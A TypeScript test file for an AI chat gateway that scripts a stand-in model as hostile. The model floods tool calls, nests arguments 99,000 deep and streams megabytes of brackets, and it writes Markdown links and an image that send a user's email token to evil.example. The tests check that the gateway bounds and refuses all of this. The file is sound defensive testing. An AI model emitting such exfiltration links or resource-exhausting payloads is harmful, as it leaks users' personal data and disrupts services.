/// <reference lib="dom" />
/**
 * What the gateway formats and renders stays bounded whatever a model or a file hands
 * it, and links a model writes never carry personal data the model only saw as tokens.
 * The real gateway with the PII boundary on, real sandboxes, a stand-in OpenAI model
 * scripted as a hostile one, pages fetched as a signed-in browser (over HTTP, and in
 * Chromium for the links).
 */
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AgentEvent } from '../src/agent/events.js';
import { MAX_ROUND_TEXT_CHARS } from '../src/agent/model-bounds.js';
import { MAX_TOOL_CALLS_PER_ROUND } from '../src/agent/tool-input.js';
import { markdownRenders } from '../src/web/markdown.js';
import { messagesOf, setMessageHtml } from '../src/agent/conversations.js';
import { listAudit } from '../src/audit/audit.js';
import { ensureUser, type User } from '../src/accounts/accounts.js';
import { createLoginLink } from '../src/auth/login-links.js';
import { startGateway, type Gateway } from './support/mcp.js';
import { startStandin, type Standin } from './support/model-standins.js';

const CHROMIUM = process.env.SANDGATE_CHROMIUM ?? '/usr/bin/chromium';
const EMAIL = 'marta.keller@northwind-mail.example';
/** 198 KB of arrays nested 99,000 deep, as an argument the tool does not have. */
const NESTED_ARGS = `{"language":"python","code":"print(1)","extra":${'['.repeat(99_000)}${']'.repeat(99_000)}}`;
const FOUR_MB = 4 * 1024 * 1024;

let model: Standin;
let gw: Gateway;
let mallory: User;
let browser: Browser | undefined;

/** The hostile model: what it does is named by the first word of the user's message. */
function hostile(req: { lastUserText: string; lastToolResult?: string }) {
  const [what] = req.lastUserText.split(' ');
  if (req.lastToolResult !== undefined) return { text: [`The tool said: ${req.lastToolResult.slice(0, 400)}`] };
  if (what === 'nested') return { toolCalls: [{ name: 'execute_code', args: NESTED_ARGS }] };
  if (what === 'extra') return { toolCalls: [{ name: 'execute_code', args: { language: 'python', code: 'print(6 * 7)', extra: 'ignored?' } }] };
  if (what === 'many') return { toolCalls: Array.from({ length: 500 }, () => ({ name: 'no_such_tool', args: {} })) };
  if (what === 'brackets') return { text: Array.from({ length: 64 }, () => '['.repeat(FOUR_MB / 64)) };
  if (what === 'link') {
    const token = /\[EMAIL_\d+\]/.exec(req.lastUserText)?.[0] ?? '[EMAIL_?]';
    return { text: [`Write to ${token}: [click here](https://evil.example/?q=${token}), or <https://evil.example/u/${token}>, or [mail](mailto:${token}). ![x](https://evil.example/p/${token}.png)`] };
  }
  return { text: ['ok'] };
}

beforeAll(async () => {
  model = await startStandin('openai', hostile);
  gw = await startGateway({ pii: true, env: { SANDGATE_OPENAI_API_KEY: 'sk-team', SANDGATE_OPENAI_BASE_URL: model.baseURL, SANDGATE_MODELS: 'openai:gpt-hostile' } });
  mallory = await ensureUser(gw.gateway.store.db, 'mallory');
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await gw?.close();
  await model?.close();
});

async function ask(message: string, conversationId?: string) {
  const agent = gw.gateway.agent;
  const id = conversationId ?? (await agent.startConversation(mallory, { source: 'web' })).id;
  const events: AgentEvent[] = [];
  const outcome = await agent.send(mallory, id, message, (e) => events.push(e));
  return { id, events, outcome };
}

/** A signed-in session's cookie, by one-time link, as a browser gets it. */
async function signIn(user: User): Promise<string> {
  const secret = (await createLoginLink(gw.gateway.store.db, user.id)).secret;
  const cookieOf = (r: Response) => /sandgate\.sid=[^;]+/.exec(r.headers.getSetCookie().join('\n'))?.[0] ?? '';
  const page = await fetch(`${gw.url}/login/link/${secret}`);
  const csrf = /name="_csrf" value="([^"]+)"/.exec(await page.text())?.[1] ?? '';
  const login = await fetch(`${gw.url}/login/link`, {
    method: 'POST',
    redirect: 'manual',
    headers: { cookie: cookieOf(page), 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ _csrf: csrf, secret }),
  });
  expect(login.headers.get('location')).toBe('/chat');
  return cookieOf(login);
}

async function getPage(cookie: string, path: string): Promise<{ status: number; html: string }> {
  const r = await fetch(`${gw.url}${path}`, { headers: { cookie, accept: 'text/html' } });
  return { status: r.status, html: await r.text() };
}

const storedChars = async (conversationId: string) => JSON.stringify(await messagesOf(gw.gateway.store.db, conversationId)).length;

describe('a hostile model', () => {
  let cookie: string;
  beforeAll(async () => {
    cookie = await signIn(mallory);
  });

  it('calls a tool with 200 KB of nested arrays in an extra argument: refused as a tool error, nothing of it kept or shown', async () => {
    const before = model.requests.length;
    const r = await ask('nested arguments');
    expect(r.outcome, JSON.stringify(r.events.filter((e) => e.type === 'error'))).toMatchObject({ reason: 'complete' });
    expect(r.events.filter((e) => e.type === 'tool_call')).toEqual([]);
    // The model reads why, as a tool error, and answers.
    const second = model.requests[before + 1]!;
    expect(second.lastToolResult).toMatch(/^This execute_code call was not run: its arguments were refused, as they are nested more than 32 levels deep/);
    // Nothing ran, and what is stored of the call is a note.
    expect((await listAudit(gw.gateway.store.db, mallory.id, { limit: 50 })).filter((a) => a.conversationId === r.id && a.method === 'tools/call')).toEqual([]);
    const call = (await messagesOf(gw.gateway.store.db, r.id))
      .flatMap((m) => (m.message.role === 'assistant' && Array.isArray(m.message.content) ? m.message.content : []))
      .find((p) => p.type === 'tool-call');
    expect(call).toMatchObject({ toolName: 'execute_code', input: { _cut: 'These arguments were not kept: they are nested more than 32 levels deep.' } });
    expect(await storedChars(r.id)).toBeLessThan(5_000);
    // Every later load of the conversation is a small page that says what happened.
    const page = await getPage(cookie, `/c/${r.id}`);
    expect(page.status).toBe(200);
    expect(page.html.length).toBeLessThan(50_000);
    expect(page.html).toContain('These arguments were not kept: they are nested more than 32 levels deep.');
  });

  it('calls a tool with a key its schema does not have: refused as a tool error the model reads, the code never runs', async () => {
    const before = model.requests.length;
    const r = await ask('extra key');
    expect(r.outcome.reason).toBe('complete');
    expect(model.requests[before + 1]!.lastToolResult).toBe(
      'The arguments of this execute_code call do not match its input schema: the arguments may not have "extra" (the arguments are: language, code, timeout_seconds, permissions, reset, background). Call it again with arguments that match it.',
    );
    expect(r.events.filter((e) => e.type === 'tool_call' || e.type === 'tool_result')).toEqual([]);
    expect((await listAudit(gw.gateway.store.db, mallory.id, { limit: 50 })).filter((a) => a.conversationId === r.id && a.method === 'tools/call')).toEqual([]);
    const page = await getPage(cookie, `/c/${r.id}`);
    expect(page.html).toContain('may not have &quot;extra&quot;');
  });

  it('makes 500 tool calls in one round: the round keeps the first 32 and one note, and the page loads', async () => {
    const r = await ask('many calls');
    expect(r.outcome.reason).toBe('complete');
    const stored = await messagesOf(gw.gateway.store.db, r.id);
    const calls = stored.flatMap((m) => (m.message.role === 'assistant' && Array.isArray(m.message.content) ? m.message.content : [])).filter((p) => p.type === 'tool-call');
    const results = stored.flatMap((m) => (m.message.role === 'tool' ? m.message.content : []));
    expect(calls).toHaveLength(MAX_TOOL_CALLS_PER_ROUND);
    expect(results).toHaveLength(MAX_TOOL_CALLS_PER_ROUND);
    const note = `(468 more tool calls of this answer were dropped, neither run nor kept: one round may make at most ${MAX_TOOL_CALLS_PER_ROUND}. Make the others in the next round.)`;
    expect(JSON.stringify(stored[1]!.message)).toContain(note);
    expect(await storedChars(r.id)).toBeLessThan(40_000);
    const page = await getPage(cookie, `/c/${r.id}`);
    expect(page.status).toBe(200);
    expect(page.html).toContain(note);
  });

  it('answers 4 MB of Markdown brackets: the round keeps and streams 100,000 characters with a note, rendered once and kept', async () => {
    const r = await ask('brackets please');
    expect(r.outcome.reason).toBe('complete');
    const streamed = r.events.flatMap((e) => (e.type === 'text' ? [e.delta] : [])).join('');
    expect(streamed.length).toBeLessThan(MAX_ROUND_TEXT_CHARS + 500);
    expect(streamed).toMatch(/\(This answer was cut here: 4094304 more characters were not kept or shown, as one answer keeps at most 100000\.\)$/);
    const stored = (await messagesOf(gw.gateway.store.db, r.id)).filter((m) => m.message.role === 'assistant');
    expect(stored).toHaveLength(1);
    expect(JSON.stringify(stored[0]!.message).length).toBeLessThan(MAX_ROUND_TEXT_CHARS + 500);
    expect(stored[0]!.html).toBeUndefined();

    const first = await getPage(cookie, `/c/${r.id}`);
    expect(first.status).toBe(200);
    expect(first.html.length).toBeLessThan(3 * MAX_ROUND_TEXT_CHARS);
    expect(first.html).toContain('(This answer was cut here: 4094304 more characters were not kept or shown');
    // Rendered at the first load and kept: later loads show what was kept, and render nothing.
    const kept = (await messagesOf(gw.gateway.store.db, r.id)).find((m) => m.message.role === 'assistant')!;
    expect(kept.html).toBeDefined();
    await setMessageHtml(gw.gateway.store.db, kept.id, JSON.stringify({ v: 1, parts: ['<p>as kept in the store</p>'] }));
    const later = await getPage(cookie, `/c/${r.id}`);
    expect(later.html).toContain('<p>as kept in the store</p>');
    expect(later.html).not.toContain('[[[[');
  });
});

describe('a workspace file', () => {
  let cookie: string;
  beforeAll(async () => {
    cookie = await signIn(mallory);
    const ws = await gw.gateway.manager.openWorkspace({ userId: mallory.id, name: mallory.name });
    // 102 KB, nested 1,000 deep around 50,000 numbers: indented whole, it would be 102 MB.
    await ws.write('deep.json', `${'['.repeat(1000)}${'0,'.repeat(50_000)}0${']'.repeat(1000)}`);
    // Shallow but wide: indented whole, 12 MB.
    await ws.write('wide.json', `${'['.repeat(60)}${'0,'.repeat(100_000)}0${']'.repeat(60)}`);
    await ws.write('brackets.md', '!['.repeat(128 * 1024));
    await ws.write('fine.json', '{"a":[1,{"b":null}]}');
  });

  it('previews deeply nested or wide JSON as it is, with a note, never indented past its bounds (two readers at once)', async () => {
    const [deep, again] = await Promise.all([getPage(cookie, '/files/preview?path=deep.json'), getPage(cookie, '/files/preview?path=deep.json')]);
    for (const p of [deep, again]) {
      expect(p.status).toBe(200);
      expect(p.html.length).toBeLessThan(300 * 1024);
      expect(p.html).toContain('Shown as it is: this JSON is nested more than 64 levels deep.');
    }
    const wide = await getPage(cookie, '/files/preview?path=wide.json');
    expect(wide.html.length).toBeLessThan(300 * 1024);
    expect(wide.html).toContain('Shown as it is: indented, this JSON would be longer than 512 KiB.');
    expect((await getPage(cookie, '/files/preview?path=fine.json')).html).toContain(JSON.stringify({ a: [1, { b: null }] }, null, 2).replaceAll('"', '&quot;'));
  });

  it("formats a preview once, and another member's preview is formatted while this one's many are waiting", async () => {
    const ws = await gw.gateway.manager.openWorkspace({ userId: mallory.id, name: mallory.name });
    const names = Array.from({ length: 8 }, (_, i) => `slow-${i}.md`);
    for (const [i, name] of names.entries()) await ws.write(name, `${'![a'.repeat(20_000)} ${i}`);
    const other = await ensureUser(gw.gateway.store.db, 'olga');
    await (await gw.gateway.manager.openWorkspace({ userId: other.id, name: other.name })).write('notes.md', '**mine**');
    const otherCookie = await signIn(other);

    const many = Promise.all(names.map((name) => getPage(cookie, `/files/preview?path=${name}`)));
    const theirs = await getPage(otherCookie, '/files/preview?path=notes.md');
    expect(theirs.html).toContain('<strong>mine</strong>');
    const mine = await many;
    for (const p of mine) expect(p.html).toMatch(/<p>!\[a|This text is shown as it is: \d+ of your texts are waiting to be formatted already/);

    // Opened again: served as formatted before, with nothing formatted anew; a changed file is formatted again.
    await getPage(cookie, '/files/preview?path=slow-0.md');
    const renders = markdownRenders();
    const again = await getPage(cookie, '/files/preview?path=slow-0.md');
    expect(again.html).toMatch(/<p>!\[a/);
    expect(markdownRenders()).toBe(renders);
    await ws.write('slow-0.md', '# changed');
    expect((await getPage(cookie, '/files/preview?path=slow-0.md')).html).toContain('<h1>changed</h1>');
    expect(markdownRenders()).toBe(renders + 1);
  });

  it('previews bracket-heavy Markdown over the formatting bound as plain text with a note', async () => {
    const md = await getPage(cookie, '/files/preview?path=brackets.md');
    expect(md.status).toBe(200);
    expect(md.html).toContain('This text is shown as it is, not formatted: it is 262144 characters long, and Markdown is formatted up to 120000.');
    expect(md.html.length).toBeLessThan(300 * 1024);
  });
});

describe("links the model writes with the user's personal data", () => {
  it('keep the token in their destination, while the text shows the value: live at the end of the turn, and after a reload', async () => {
    const user = await ensureUser(gw.gateway.store.db, 'ines');
    const cookie = await signIn(user);
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
    const context = await browser.newContext();
    await context.addCookies([{ name: 'sandgate.sid', value: cookie.split('=')[1]!, domain: '127.0.0.1', path: '/', httpOnly: true, sameSite: 'Lax' }]);
    const page = await context.newPage();
    const id = (await gw.gateway.agent.startConversation(user, { source: 'web' })).id;
    await page.goto(`${gw.url}/c/${id}`);
    await page.waitForSelector('body[data-live-state=watching]');
    await page.fill('#message', `link for ${EMAIL} please`);
    await page.keyboard.press('Enter');
    await page.waitForSelector('.turn .md a');
    await page.waitForSelector('#composer-actions button.primary');
    // The model saw a token, never the address.
    expect(model.requests.at(-1)!.raw).not.toContain(EMAIL);
    expect(model.requests.at(-1)!.lastUserText).toMatch(/^link for \[EMAIL_\d+\] please$/);

    for (const when of ['live', 'reloaded']) {
      if (when === 'reloaded') await page.reload();
      const md = page.locator('.turn .md').last();
      await md.waitFor();
      expect(await md.innerText(), when).toContain(`Write to ${EMAIL}:`);
      const targets = await md.locator('a, img').evaluateAll((els) => els.map((e) => e.getAttribute('href') ?? e.getAttribute('src') ?? ''));
      expect(targets, when).toEqual([
        expect.stringMatching(/^https:\/\/evil\.example\/\?q=%5BEMAIL_\d+%5D$/), expect.stringMatching(/^https:\/\/evil\.example\/u\/%5BEMAIL_\d+%5D$/), // mailto: destinations lose the brackets (read as an IPv6 host's), never gain the value.
        expect.stringMatching(/^mailto:EMAIL_\d+$/),
        expect.stringMatching(/^https:\/\/evil\.example\/p\/%5BEMAIL_\d+%5D\.png$/),
      ]);
      expect(await page.content(), when).not.toMatch(new RegExp(`(href|src)="[^"]*${EMAIL.replace(/[.]/g, '\\.').split('@')[0]}`));
    }
    await context.close();
  });
});
